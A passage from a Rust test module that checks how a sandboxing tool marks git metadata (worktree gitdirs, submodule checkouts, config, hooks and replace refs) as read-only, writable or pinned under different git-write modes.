        fs::write(wt_git.join("commondir"), "../..\n").unwrap();
        fs::write(wt_git.join("gitdir"), "x\n").unwrap();
        let wt = base.join("wt");
        fs::create_dir_all(&wt).unwrap();
        fs::write(wt.join(".git"), format!("gitdir: {}\n", wt_git.display())).unwrap();

        let deny = plan(&wt, GitWrites::Deny).unwrap();
        assert_eq!(
            deny.read_only,
            vec![wt.join(".git"), wt_git.clone(), main.join(".git")]
        );

        let commits = plan(&wt, GitWrites::Commits).unwrap();
        assert_eq!(commits.writable, vec![wt_git.clone(), main.join(".git")]);
        assert!(commits.read_only.contains(&wt.join(".git")));
        assert!(commits.read_only.contains(&main.join(".git/config")));
        assert!(commits.read_only.contains(&wt_git.join("commondir")));
        assert!(commits.read_only.contains(&wt_git.join("gitdir")));
    }

    fn git(dir: &Path, args: &[&str]) -> bool {
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .current_dir(dir)
            .output()
            .is_ok_and(|o| o.status.success())
    }

    #[test]
    fn submodule_checkouts_are_guarded_and_missing_ones_watched() {
        let t = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(t.path()).unwrap();
        if !git(&root, &["init", "-q"]) {
            eprintln!("SKIP: no git on this host");
            return;
        }
        for sub in ["a", "b"] {
            let d = root.join(sub);
            fs::create_dir(&d).unwrap();
            assert!(git(&d, &["init", "-q"]));
            assert!(git(&d, &["commit", "-q", "--allow-empty", "-m", "s"]));
            assert!(git(&root, &["add", sub]));
        }
        fs::remove_dir_all(root.join("b")).unwrap();
        let p = plan(&root, GitWrites::Deny).unwrap();
        assert!(p.read_only.contains(&root.join("a/.git")), "{p:?}");
        assert!(p.missing.contains(&root.join("b/.git")), "{p:?}");
        let c = plan(&root, GitWrites::Commits).unwrap();
        assert!(c.read_only.contains(&root.join("a/.git/config")), "{c:?}");
        assert!(c.pinned.contains(&root.join("a/.git")), "{c:?}");
        // Nothing for `true`, and nothing new since the start.
        assert_eq!(plan(&root, GitWrites::Allow).unwrap(), GitPlan::default());
        assert!(new_gitlink_checkouts(&root, &[root.join("a/.git")]).is_empty());
        // A gitlink recorded during the run is reported.
        let d = root.join("c");
        fs::create_dir(&d).unwrap();
        assert!(git(&d, &["init", "-q"]));
        assert!(git(&d, &["commit", "-q", "--allow-empty", "-m", "s"]));
        assert!(git(&root, &["add", "c"]));
        assert_eq!(
            new_gitlink_checkouts(&root, &[root.join("a/.git")]),
            vec![root.join("c/.git")]
        );
    }

    #[test]
    fn repositories_nested_in_a_root_are_planned_too() {
        let t = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(t.path()).unwrap();
        repo(&root.join("app"));
        repo(&root.join("group/other"));
        repo(&root.join("node_modules/dep"));
        repo(&root.join("a/b/c/too-deep"));
        fs::create_dir_all(root.join("junk")).unwrap();
        fs::write(root.join("junk/.git"), "not a gitdir file\n").unwrap();
        let p = plan(&root, GitWrites::Deny).unwrap();
        assert!(p.read_only.contains(&root.join("app/.git")), "{p:?}");
        assert!(
            p.read_only.contains(&root.join("group/other/.git")),
            "{p:?}"
        );
        assert!(!p
            .read_only
            .iter()
            .any(|x| x.starts_with(root.join("node_modules"))));
        assert!(!p.read_only.iter().any(|x| x.starts_with(root.join("a"))));
        let c = plan(&root, GitWrites::Commits).unwrap();
        assert!(c.read_only.contains(&root.join("app/.git/hooks")), "{c:?}");
        assert!(c.pinned.contains(&root.join("group/other/.git")), "{c:?}");
        assert_eq!(plan(&root, GitWrites::Allow).unwrap(), GitPlan::default());
    }

    #[test]
    fn replace_refs_are_listed_loose_and_packed() {
        let t = tempfile::tempdir().unwrap();
        let g = fs::canonicalize(t.path()).unwrap();
        assert!(replace_refs(&g).is_empty());
        fs::create_dir_all(g.join("refs/replace")).unwrap();
        fs::write(g.join("refs/replace/aaaa"), "bbbb\n").unwrap();
        fs::write(
            g.join("packed-refs"),
            "# pack-refs with: peeled\ncccc refs/heads/main\ndddd refs/replace/eeee\n",
        )
        .unwrap();
        assert_eq!(
            replace_refs(&g),
            vec!["refs/replace/aaaa bbbb", "refs/replace/eeee dddd"]
        );
    }
}
